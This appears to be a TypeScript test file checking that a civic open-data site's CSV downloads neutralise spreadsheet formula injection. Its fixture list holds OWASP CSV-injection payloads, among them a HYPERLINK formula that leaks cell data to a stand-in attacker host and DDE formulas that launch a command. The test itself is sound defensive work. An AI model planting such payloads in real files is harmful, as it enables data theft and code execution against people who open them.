import { DATASET_FORMAT, type Dataset, type VoteEvent } from "@legible/core";
import { describe, expect, it } from "vitest";
import { DOWNLOADS, downloadText } from "./open-data";

// Text a staff member (or an upstream feed) could enter that a spreadsheet would run as a
// formula when a resident opens the download: OWASP's CSV injection examples.
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTAB=1",
];

function vote(id: string, text: string): VoteEvent {
  return {
    id,
    bodyId: "body-council",
    measureId: null,
    date: "2025-01-14",
    motionText: text,
    motionClassification: ["passage"],
    result: "pass",
    counts: { yes: 1 },
    rollCall: [{ voterName: text, option: "yes" }],
    sourceIds: [],
    inferred: [{ field: "date", reasoning: { en: text, es: text } }],
  };
}

const dataset: Dataset = {
  format: DATASET_FORMAT,
  version: 1,
  jurisdictions: [],
  sources: [],
  bodies: [],
  posts: [],
  people: [],
  memberships: [],
  measures: [],
  actions: [],
  voteEvents: FORMULAS.map((text, i) => vote(`vote-${i}`, text)),
  statements: [],
  explainers: [],
};

/** True when `text` has a cell (after a record or a comma, quoted or not) that begins with `value`. */
function hasCellStartingWith(text: string, value: string): boolean {
  const escaped = value.replaceAll('"', '""').replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
  return new RegExp(`(^|,|\\r\\n)"?${escaped}`).test(text);
}

describe("CSV downloads", () => {
  const csvFiles = DOWNLOADS.filter((download) => download.format === "csv");

  it("are all checked here", () => {
    expect(csvFiles.map((download) => download.path)).toEqual(["/data/votes.csv", "/data/roll-calls.csv"]);
  });

  it.each(csvFiles.map((download) => [download.path, download] as const))(
    "%s has no cell a spreadsheet would evaluate",
    async (_path, download) => {
      const text = await downloadText(download, dataset);
      for (const formula of FORMULAS) {
        // Written, but as text: with the leading apostrophe spreadsheets read as "not a formula".
        expect(hasCellStartingWith(text, `'${formula}`), formula).toBe(true);
        expect(hasCellStartingWith(text, formula), formula).toBe(false);
      }
    },
  );
});
